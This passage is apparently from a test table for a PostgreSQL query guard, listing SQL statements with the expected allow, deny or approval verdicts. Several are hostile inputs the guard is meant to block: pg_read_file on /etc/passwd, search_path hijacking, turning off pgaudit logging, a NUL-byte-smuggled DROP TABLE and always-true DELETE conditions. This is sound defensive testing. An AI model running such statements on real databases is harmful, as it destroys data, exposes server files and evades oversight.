  c('MERGE INTO users USING (SELECT 1) s ON 1=1 WHEN MATCHED THEN UPDATE SET a = 1', 'write', 'merge', 'deny', NO_UPDATE, 'merge'),
  c('MERGE INTO users u USING staging s ON s.flag WHEN MATCHED THEN DELETE', 'write', 'merge', 'deny', NO_DELETE, 'merge'),
  c('MERGE INTO users u USING staging s ON u.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE', 'write', 'merge', 'deny', NO_DELETE, 'merge'),
  c('MERGE INTO users u USING staging s ON u.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)', 'write', 'merge', 'allow', WRITE, 'merge'),

  // prepared statements
  c('PREPARE p AS SELECT * FROM users WHERE id = $1', 'read', 'prepare', 'allow', READ, 'prepared'),
  c('PREPARE p AS DELETE FROM users', 'write', 'prepare', 'deny', NO_DELETE, 'prepared'),
  c('PREPARE p (int) AS DELETE FROM users WHERE id = $1', 'write', 'prepare', 'allow', WRITE, 'prepared'),
  c('PREPARE p (bool) AS DELETE FROM users WHERE $1', 'write', 'prepare', 'deny', NO_DELETE, 'prepared'),
  c('PREPARE p AS SELECT 1; EXECUTE p', 'read', 'prepare', 'allow', READ, 'prepared'),
  c('PREPARE d (int) AS DELETE FROM users WHERE id = $1; EXECUTE d(1)', 'write', 'prepare', 'allow', WRITE, 'prepared'),
  c('EXECUTE never_prepared', 'unknown', 'execute', 'deny', UNKNOWN, 'prepared'),
  c('EXPLAIN ANALYZE EXECUTE never_prepared', 'unknown', 'execute', 'deny', UNKNOWN, 'prepared'),
  c("PREPARE p AS SELECT 1; EXECUTE p(pg_read_file('/etc/passwd'))", 'admin', 'execute', 'deny', SERVER_FN, 'prepared'),
  c('DEALLOCATE p', 'session', 'deallocate', 'allow', SESSION, 'prepared'),
  c('PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p', 'unknown', 'execute', 'deny', UNKNOWN, 'prepared'),

  // functions by allow-list: text-executing built-ins (every one of them), denied
  ...[
    "SELECT query_to_xml('DELETE FROM users RETURNING 1', true, false, '')",
    "SELECT query_to_xmlschema('SELECT 1', true, false, '')",
    "SELECT query_to_xml_and_xmlschema('SELECT 1', true, false, '')",
    "SELECT cursor_to_xml('c', 10, true, false, '')",
    "SELECT cursor_to_xmlschema('c', true, false, '')",
    "SELECT table_to_xml('users', true, false, '')",
    "SELECT table_to_xmlschema('users', true, false, '')",
    "SELECT table_to_xml_and_xmlschema('users', true, false, '')",
    "SELECT schema_to_xml('public', true, false, '')",
    "SELECT schema_to_xmlschema('public', true, false, '')",
    "SELECT schema_to_xml_and_xmlschema('public', true, false, '')",
    "SELECT database_to_xml(true, false, '')",
    "SELECT database_to_xmlschema(true, false, '')",
    "SELECT database_to_xml_and_xmlschema(true, false, '')",
    "SELECT * FROM ts_stat('SELECT set_config(''standard_conforming_strings'', ''off'', false)::tsvector')",
    "SELECT * FROM pg_catalog.ts_stat('SELECT 1', 'a')",
    "SELECT ts_rewrite('a'::tsquery, 'SELECT pg_terminate_backend(1)')",
    "SELECT x FROM users WHERE query_to_xml('DELETE FROM users', true, false, '') IS NOT NULL",
    "EXPLAIN SELECT table_to_xml('users', true, false, '')",
    "SELECT crosstab('SELECT 1')",
    "SELECT tablefunc.connectby('t', 'a', 'b', '1', 0)",
  ].map((sql) => c(sql, 'admin', sql.startsWith('EXPLAIN') ? 'explain' : 'select', 'deny', DYNAMIC, 'text-executing functions')),
  c("SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)", 'read', 'select', 'allow', READ, 'text-executing functions'),
  // built-ins that change data or state are writes, not reads
  ...["SELECT lo_create(0)", "SELECT lo_creat(-1)", "SELECT lo_from_bytea(0, 'x')", "SELECT nextval('users_id_seq')", "SELECT id, nextval('s') FROM users"].map((sql) =>
    c(sql, 'write', 'select', 'allow', WRITE, 'state-changing built-ins'),
  ),
  // removing or overwriting large objects: no WHERE bounds how many a call reaches
  ...[
    "SELECT lo_unlink(16400)",
    "SELECT lo_unlink(oid) FROM pg_largeobject_metadata",
    "SELECT pg_catalog.lo_unlink(m.oid) FROM pg_catalog.pg_largeobject_metadata m WHERE m.oid > 0",
    "SELECT count(lo_unlink(oid)) FROM pg_largeobject_metadata",
    "SELECT lo_put(16400, 0, '\\x00')",
    "SELECT lowrite(0, 'x')",
    "SELECT lo_truncate(0, 0)",
    "SELECT lo_truncate64(lo_open(oid, 131072), 0) FROM pg_largeobject_metadata",
    "WITH gone AS (SELECT lo_unlink(oid) FROM pg_largeobject_metadata) SELECT * FROM gone",
  ].map((sql) => c(sql, 'write', 'select', 'require_approval', LARGE_OBJECT, 'large-object destruction')),
  // setting a sequence back: the application's next inserts collide with rows that exist
  ...[
    "SELECT setval('users_id_seq', 1)",
    "SELECT pg_catalog.setval('s', 1, false)",
    "SELECT setval(c.oid, 1) FROM pg_class c WHERE c.relkind = 'S'",
    "SELECT id, setval('s', id) FROM users",
    "WITH r AS (SELECT setval('s', 1)) SELECT * FROM r",
  ].map((sql) => c(sql, 'write', 'select', 'require_approval', SEQUENCE_RESET, 'sequence resets')),
  ...["SELECT pg_restore_relation_stats('schemaname', 'public', 'relname', 'users', 'reltuples', 1e9::real)", "SELECT pg_restore_attribute_stats('schemaname', 'public', 'relname', 'users', 'attname', 'id', 'inherited', false, 'null_frac', 1::real)", "SELECT pg_clear_relation_stats('public', 'users')", "SELECT pg_clear_attribute_stats('public', 'users', 'id', false)", "SELECT gin_clean_pending_list('i'::regclass)", "SELECT brin_summarize_range('i'::regclass, 0)"].map((sql) =>
    c(sql, 'admin', 'select', 'require_approval', ADMIN, 'state-changing built-ins'),
  ),
  c('SELECT tsvector_update_trigger()', 'write', 'select', 'require_approval', VOLATILE, 'unreviewed volatile built-in'),
  c("SELECT pg_stat_reset()", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  // reviewed harmless volatile built-ins, and session-level ones apps rely on
  ...["SELECT random()", "SELECT clock_timestamp(), timeofday()", "SELECT gen_random_uuid()", "SELECT uuidv7()", "SELECT pg_sleep(0)", "SELECT currval('s'), lastval()", "SELECT setseed(0.5)", "SELECT pg_current_wal_lsn()", "SELECT pg_relation_size('users')"].map((sql) =>
    c(sql, 'read', 'select', 'allow', READ, 'harmless volatile built-ins'),
  ),
  ...["SELECT pg_advisory_lock(42)", "SELECT pg_try_advisory_xact_lock(1, 2)", "SELECT pg_advisory_unlock_all()", "SELECT pg_notify('jobs', 'x')"].map((sql) => c(sql, 'session', 'select', 'allow', SESSION, 'session functions')),
  c('SELECT no_such_function(1)', 'opaque', 'select', 'deny', UNKNOWN_FN, 'unknown functions'),
  c('SELECT 1 OPERATOR(public.===) 2', 'opaque', 'select', 'deny', UNKNOWN_FN, 'unknown functions'),
  // user-defined functions, as the target's catalog describes them
  c('SELECT archive_all()', 'write', 'select', 'require_approval', VOLATILE, 'user-defined functions', APP),
  c('SELECT app.archive_all()', 'write', 'select', 'require_approval', VOLATILE, 'user-defined functions', APP),
  c('SELECT * FROM users WHERE id = (SELECT archive_all())', 'write', 'select', 'require_approval', VOLATILE, 'user-defined functions', APP),
  c('SELECT u.archive FROM users u', 'write', 'select', 'require_approval', VOLATILE, 'attribute notation', APP),
  c('SELECT (u).archive FROM users u', 'write', 'select', 'require_approval', VOLATILE, 'attribute notation', APP),
  c('SELECT lower(1)', 'write', 'select', 'require_approval', VOLATILE, 'overloads', APP),
  // Without argument types, any overload with a fitting argument count could be the one that runs.
  c("SELECT lower('A')", 'write', 'select', 'require_approval', VOLATILE, 'overloads', APP),
  c("SELECT lower('A')", 'read', 'select', 'allow', READ, 'overloads'),
  c('SELECT fullname(u) FROM users u', 'write', 'select', 'require_approval', VOLATILE, 'same name in another schema', APP),
  c('SELECT public.fullname(u) FROM users u', 'read', 'select', 'allow', READ, 'user-defined functions', APP),
  c('SELECT u.email FROM users u', 'read', 'select', 'allow', READ, 'attribute notation', APP),
  c('SELECT 1 === 2', 'write', 'select', 'require_approval', VOLATILE, 'user-defined operators', APP),
  c('SELECT total(x) FROM t', 'write', 'select', 'require_approval', VOLATILE, 'user-defined aggregates', APP),
  c("SELECT 'a@b'::email", 'write', 'select', 'require_approval', VOLATILE, 'casts', APP),
  c("SELECT 'happy'::mood", 'read', 'select', 'allow', READ, 'casts', APP),
  c('UPDATE users SET name = archive_all() WHERE id = 1', 'write', 'update', 'require_approval', VOLATILE, 'user-defined functions', APP),
  c('CALL archive_orders(30)', 'opaque', 'call', 'require_approval', OPAQUE, undefined, APP),

  // settings by allow-list
  c('SET transform_null_equals = on', 'session', 'set', 'deny', SETTING, 'meaning-changing settings'),
  c("SELECT set_config('transform_null_equals', 'on', false)", 'session', 'set', 'deny', SETTING, 'meaning-changing settings'),
  c('SET LOCAL session_replication_role = replica', 'session', 'set', 'deny', SETTING, 'meaning-changing settings'),
  c('SET search_path = evil, public', 'session', 'set', 'deny', SETTING, 'meaning-changing settings'),
  c("SET SCHEMA 'evil'", 'session', 'set', 'deny', SETTING, 'meaning-changing settings'),
  c("SELECT set_config('search_path', $1, false)", 'session', 'set', 'deny', SHADOWED_TYPE, 'meaning-changing settings'),
  c('SET search_path = "$user", public', 'session', 'set', 'allow', SESSION),
  c('SET search_path TO pg_catalog, public', 'session', 'set', 'allow', SESSION),
  c('SET search_path TO pg_catalog, pg_temp, public', 'session', 'set', 'allow', SESSION),
  // New objects would go to pg_temp ("$user" and public may not exist): `CREATE DOMAIN text …` there
  // takes the built-in's place once the path is set back.
  c('SET search_path TO pg_temp, pg_catalog, public', 'session', 'set', 'deny', SHADOWED_TYPE, 'meaning-changing settings'),
  c('SET search_path TO "$user", public, pg_temp', 'session', 'set', 'deny', SHADOWED_TYPE, 'meaning-changing settings'),
  c("SELECT set_config('search_path', 'pg_temp', true)", 'session', 'set', 'deny', SHADOWED_TYPE, 'meaning-changing settings'),
  // Built-in type names would then mean public's types (public.int4), which dbgate takes to be the built-ins.
  c('SET search_path TO public, pg_catalog', 'session', 'set', 'deny', SETTING, 'meaning-changing settings'),
  c('SET search_path TO "$user", public, pg_catalog', 'session', 'set', 'deny', SETTING, 'meaning-changing settings'),
  c('SET backslash_quote = off', 'session', 'set', 'deny', GUARD, 'lexer settings'),
  c("SELECT set_config('client_encoding', $1, false)", 'session', 'set', 'deny', GUARD, 'lexer settings'),
  c("SELECT set_config('standard_conforming_strings', (SELECT 'off'), false)", 'session', 'set', 'deny', GUARD, 'lexer settings'),
  c('SET standard_conforming_strings = on', 'session', 'set', 'allow', SESSION, 'lexer settings'),
  c("SET log_statement = 'none'", 'session', 'set', 'require_approval', SETTING_APPROVAL, 'unlisted settings'),
  c("SET restrict_nonsystem_relation_kind = ''", 'session', 'set', 'deny', SETTING, 'meaning-changing settings'),
  c('SET ROLE postgres', 'privilege', 'set', 'deny', PRIV, 'role switch'),
  // A library's settings are not application state: they change what its code does.
  c('SET plpgsql.check_asserts = off', 'session', 'set', 'deny', SETTING, 'library settings'),
  c("SELECT set_config('plpgsql.variable_conflict', 'use_column', false)", 'session', 'set', 'deny', SETTING, 'library settings'),
  c("SELECT set_config('plpgsql.check_asserts', $1, false)", 'session', 'set', 'deny', SETTING, 'library settings'),
  c("SET pltcl.start_proc = 'public.boot'", 'session', 'set', 'deny', SETTING, 'library settings'),
  c("SET pgaudit.log = 'none'", 'session', 'set', 'deny', SETTING, 'library settings'),
  c('SET plpgsql.print_strict_params = on', 'session', 'set', 'require_approval', SETTING_APPROVAL, 'library settings'),
  c('SET pg_stat_statements.track = none', 'session', 'set', 'require_approval', SETTING_APPROVAL, 'library settings'),
  ...["SET plpgsql.check_asserts = on", "SET plpgsql.variable_conflict = use_variable", "SET plpgsql.extra_warnings = 'all'", 'SET pg_trgm.similarity_threshold = 0.1', "SET request.jwt.claims = '{}'"].map((sql) =>
    c(sql, 'session', 'set', 'allow', SESSION, 'library settings'),
  ),
  ...["SET extra_float_digits = 3", "SET application_name = 'rails'", "SET DateStyle = 'ISO, MDY'", "SET intervalstyle = iso_8601", "SET client_min_messages TO warning", "SET bytea_output = 'hex'", "SET enable_seqscan = off", "SET jit = off", "SET work_mem = '64MB'", "SET lock_timeout = '2s'", "SET idle_in_transaction_session_timeout = 0", "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL READ COMMITTED", "SET app.tenant_id = '42'", "SELECT set_config('app.tenant_id', $1, true)", "SELECT set_config('statement_timeout', $1, false)"].map((sql) =>
    c(sql, 'session', 'set', 'allow', SESSION, 'ordinary settings'),
  ),

  // filtering by proof: whole families of always-true conditions
  ...[
    'DELETE FROM users WHERE x + 0 = x', 'DELETE FROM users WHERE x * 0 = 0', 'DELETE FROM users WHERE abs(x) >= 0', 'DELETE FROM users WHERE 0 = x - x', 'DELETE FROM users WHERE length(name) >= 0',
    'DELETE FROM users WHERE x IN (x)', 'DELETE FROM users WHERE x IN (1, x)', 'DELETE FROM users WHERE x = ANY(array[x])', 'DELETE FROM users WHERE x = ANY(ARRAY[1, x])', 'DELETE FROM users WHERE x BETWEEN x AND x', 'DELETE FROM users WHERE x NOT BETWEEN x + 1 AND x - 1', 'DELETE FROM users WHERE x IS NOT DISTINCT FROM x',
    'DELETE FROM users WHERE x = (SELECT x)', 'DELETE FROM users WHERE x = (SELECT users.x)', 'DELETE FROM users WHERE x IN (SELECT x)', 'DELETE FROM users u WHERE u.x = (SELECT u.x FROM other LIMIT 1)', 'DELETE FROM users WHERE id IN (SELECT id FROM pg_class)',
    'DELETE FROM users WHERE CASE WHEN x > 1 THEN true ELSE true END', 'DELETE FROM users WHERE CASE WHEN x = 1 THEN true WHEN x <> 1 THEN true ELSE true END', 'DELETE FROM users WHERE COALESCE(x = 1, true) OR x <> 1',
    'DELETE FROM users WHERE ctid IS NOT NULL', 'DELETE FROM users WHERE xmin IS NOT NULL', 'DELETE FROM users WHERE tableoid IS NOT NULL',
    "DELETE FROM users WHERE tableoid = 'users'::regclass", 'DELETE FROM users WHERE tableoid > 0',
    "DELETE FROM users WHERE id <> ALL('{}')", "DELETE FROM users WHERE id <> ALL('{}'::int[])", 'DELETE FROM users WHERE id <> ALL(ARRAY[]::int[])', "DELETE FROM users WHERE NOT (id = ANY('{ }'))",
    "DELETE FROM users WHERE id <> ALL('{\"a\"}')", "DELETE FROM users WHERE id <> ALL('{NULL}'::int[])", 'DELETE FROM users u WHERE u.tableoid <> 0 AND u.tableoid IS NOT NULL', "DELETE FROM users WHERE tableoid IN ('users'::regclass, 1)", 'DELETE FROM users WHERE users IS NOT NULL', 'DELETE FROM users u WHERE u IS NOT NULL', 'DELETE FROM users u WHERE u.* IS NOT NULL', 'DELETE FROM users WHERE ROW(id) IS NOT NULL',
    'DELETE FROM users WHERE (id = 1) IS NOT NULL', 'DELETE FROM users WHERE (id = 1) IS NOT UNKNOWN OR id IS NULL', 'DELETE FROM users WHERE (x = NULL) IS NOT FALSE', 'DELETE FROM users WHERE NOT (id = 1 AND id <> 1)',
    'DELETE FROM users WHERE NULL = NULL', 'DELETE FROM users WHERE NULL = NULL OR id = 1', 'DELETE FROM users WHERE x LIKE \'%\'', "DELETE FROM users WHERE x LIKE 'a%' OR x NOT LIKE 'a%'", "DELETE FROM users WHERE x ~ ''", 'DELETE FROM users WHERE x >= 18 OR x < 20', 'DELETE FROM users WHERE x = $1 OR x <> $1', 'DELETE FROM users WHERE x < $1 OR x >= $2',
    'DELETE FROM users u USING users u2 WHERE u.id = u2.id', 'DELETE FROM users USING orders WHERE id = user_id', 'DELETE FROM users WHERE id IN (SELECT u2.id FROM users u2)', 'DELETE FROM users u WHERE EXISTS (SELECT 1 FROM users u2 WHERE u2.id = u.id)',
  ].map((sql) => c(sql, 'write', 'delete', 'deny', NO_DELETE, 'always-true WHERE')),
  c('UPDATE users u SET a = 1 FROM users u2 WHERE u.id = u2.id', 'write', 'update', 'deny', NO_UPDATE, 'always-true WHERE'),
  c('UPDATE posts SET x = 1 WHERE posts.id IN (SELECT posts.id FROM posts LEFT JOIN authors ON authors.id = posts.author_id)', 'write', 'update', 'deny', NO_UPDATE, 'always-true WHERE'),
  c('UPDATE "posts" SET "x" = 1 WHERE "posts"."id" IN (SELECT "posts"."id" FROM "posts" INNER JOIN "authors" ON "authors"."id" = "posts"."author_id" WHERE "authors"."name" = $1)', 'write', 'update', 'allow', WRITE, 'app traffic'),
  c('WITH s AS (SELECT * FROM users) UPDATE users SET a = 1 FROM s WHERE users.id = s.id', 'write', 'update', 'deny', NO_UPDATE, 'always-true WHERE'),
  c('MERGE INTO users t USING users s ON t.id = s.id WHEN MATCHED THEN DELETE', 'write', 'merge', 'deny', NO_DELETE, 'always-true WHERE'),
  c('MERGE INTO users t USING (SELECT id FROM users) s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1', 'write', 'merge', 'deny', NO_UPDATE, 'always-true WHERE'),
  c('INSERT INTO users SELECT * FROM users ON CONFLICT (id) DO UPDATE SET a = excluded.a', 'write', 'insert', 'deny', NO_UPDATE, 'upsert from itself'),
  c('INSERT INTO users (id, a) SELECT id, 0 FROM public.users WHERE true ON CONFLICT (id) DO UPDATE SET a = 0', 'write', 'insert', 'deny', NO_UPDATE, 'upsert from itself'),
  c('WITH s AS (SELECT id FROM users) INSERT INTO users (id) SELECT id FROM s ON CONFLICT (id) DO UPDATE SET a = 0', 'write', 'insert', 'deny', NO_UPDATE, 'upsert from itself'),
  c('INSERT INTO users SELECT * FROM users ON CONFLICT (id) DO UPDATE SET a = 1 WHERE users.id = 5', 'write', 'insert', 'allow', WRITE, 'upsert from itself'),
  c("INSERT INTO users (id, a) VALUES ($1, $2) ON CONFLICT (id) DO UPDATE SET a = excluded.a", 'write', 'insert', 'allow', WRITE, 'upsert'),
  c('INSERT INTO users SELECT * FROM staging ON CONFLICT (id) DO UPDATE SET a = excluded.a', 'write', 'insert', 'allow', WRITE, 'upsert'),
  // … and conditions that do filter (the value-based line)
  ...[
    'DELETE FROM users WHERE id > 0', 'DELETE FROM users WHERE deleted_at IS NOT NULL', 'DELETE FROM users WHERE deleted_at IS NULL', 'DELETE FROM users WHERE id = NULL', 'DELETE FROM users WHERE (id = 5) IS TRUE', 'DELETE FROM users WHERE NOT (id = 5)', 'DELETE FROM users WHERE active', 'DELETE FROM users WHERE NOT active',
    'DELETE FROM users WHERE (a, b) = (1, 2)', 'DELETE FROM users WHERE (a, b) IN ((1, 2), (3, 4))', "DELETE FROM users WHERE email LIKE '%@example.com'", 'DELETE FROM users WHERE id = 1 OR id = 2', 'DELETE FROM users WHERE id <> ALL($1)', 'DELETE FROM users WHERE id BETWEEN $1 AND $2',
    "DELETE FROM users WHERE id <> ALL('{1,2}')", "DELETE FROM users WHERE id = ANY('{1, 2}'::int[])", 'DELETE FROM users WHERE id <> ALL(ARRAY[1, 2])', "DELETE FROM users WHERE NOT (id = ANY('{3}'))",
    'DELETE FROM users u WHERE EXISTS (SELECT 1 FROM banned b WHERE b.user_id = u.id)', 'DELETE FROM users u WHERE NOT EXISTS (SELECT 1 FROM orders o WHERE o.user_id = u.id)', 'DELETE FROM users WHERE id IN (SELECT u2.id FROM users u2 WHERE u2.banned)',
    'DELETE FROM "sessions" WHERE "sessions"."id" IN (SELECT U0."id" FROM "sessions" U0 WHERE U0."expires" < $1)',
    'DELETE FROM "posts" WHERE "posts"."id" IN (SELECT "posts"."id" FROM "posts" INNER JOIN "authors" ON "authors"."id" = "posts"."author_id" WHERE "authors"."name" = $1)', 'DELETE FROM users WHERE id = $1 AND tenant_id = $2', 'DELETE FROM users WHERE x = 1 OR $1',
  ].filter((sql) => !sql.endsWith('OR $1')).map((sql) => c(sql, 'write', 'delete', 'allow', WRITE, 'filtering WHERE')),
  c('DELETE FROM users WHERE x = 1 OR $1', 'write', 'delete', 'deny', NO_DELETE, 'always-true WHERE'),

  // maintenance: plain VACUUM and ANALYZE run; rewrites wait for a reviewer
  ...['VACUUM', 'VACUUM users', 'VACUUM VERBOSE users', 'VACUUM ANALYZE users, orders', 'vacuum analyze pgbench_branches', 'VACUUM (VERBOSE, ANALYZE, SKIP_LOCKED) users', 'VACUUM (FULL false) users', 'VACUUM (ANALYZE false)', 'ANALYZE VERBOSE users (email)'].map((sql) =>
    c(sql, 'admin', sql.toLowerCase().startsWith('analyze') ? 'analyze' : 'vacuum', 'allow', MAINT, 'maintenance'),
  ),
  // ANALYZE of every table runs every table's index and statistics expressions, which are not looked up for it
  ...['ANALYZE', 'ANALYZE VERBOSE', 'VACUUM ANALYZE', 'VACUUM (VERBOSE, ANALYZE)'].map((sql) => c(sql, 'admin', sql.toLowerCase().startsWith('analyze') ? 'analyze' : 'vacuum', 'require_approval', 'default.every-table-code', 'maintenance')),
  ...['VACUUM FULL', 'VACUUM (FULL) users', 'VACUUM FREEZE users', 'VACUUM (DISABLE_PAGE_SKIPPING) users', 'VACUUM (PARALLEL 2) users'].map((sql) => c(sql, 'admin', 'vacuum', 'require_approval', ADMIN, 'maintenance')),

  // ordinary application traffic stays allowed
  ...[
    'SELECT "users".* FROM "users" WHERE "users"."id" = $1 LIMIT $2',
    "SELECT t.oid, t.typname, t.typtype FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace WHERE n.nspname = 'public'",
    'SELECT current_schema(), current_database(), version()',
    'SELECT abalance FROM pgbench_accounts WHERE aid = $1',
    "SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day' AND status = ANY($1::text[])",
    'SELECT u.id, u.email, coalesce(sum(o.total), 0) FROM users u LEFT JOIN orders o ON o.user_id = u.id GROUP BY u.id ORDER BY 3 DESC',
    "SELECT to_char(now(), 'YYYY'), date_trunc('day', now()), jsonb_build_object('a', 1), array_agg(id) FROM users",
  ].map((sql) => c(sql, 'read', 'select', 'allow', READ, 'app traffic')),
  ...[
    'UPDATE "users" SET "name" = $1, "updated_at" = $2 WHERE "users"."id" = $3',
    'UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2',
    'DELETE FROM "sessions" WHERE "sessions"."id" = $1',
    'INSERT INTO "users" ("email", "created_at") VALUES ($1, $2) RETURNING "id"',
    'INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP)',
    'UPDATE accounts SET balance = balance - $1 WHERE id = $2 AND balance - $1 >= 0',
  ].map((sql) => c(sql, 'write', sql.split(' ')[0]!.toLowerCase(), 'allow', WRITE, 'app traffic')),

  // malformed
  c('DELETE FRM users', 'unknown', 'unknown', 'deny', SYNTAX, 'malformed'),
  c('SELECT * FROM', 'unknown', 'unknown', 'deny', SYNTAX, 'malformed'),
  c("DROP TABLE users'", 'unknown', 'unknown', 'deny', SYNTAX, 'malformed'),
  c("SELECT 'unterminated", 'unknown', 'unknown', 'deny', SYNTAX, 'malformed'),
  c('SELECT 1; DELET FROM users', 'unknown', 'unknown', 'deny', SYNTAX, 'malformed'),
  c('$$', 'unknown', 'unknown', 'deny', SYNTAX, 'malformed'),
  c('SELECT 1\u0000; DROP TABLE users', 'unknown', 'unknown', 'deny', UNKNOWN, 'malformed'),
  c(`SELECT ${'1,'.repeat(600_000)}1`, 'unknown', 'unknown', 'deny', UNKNOWN, 'huge statement'),
]
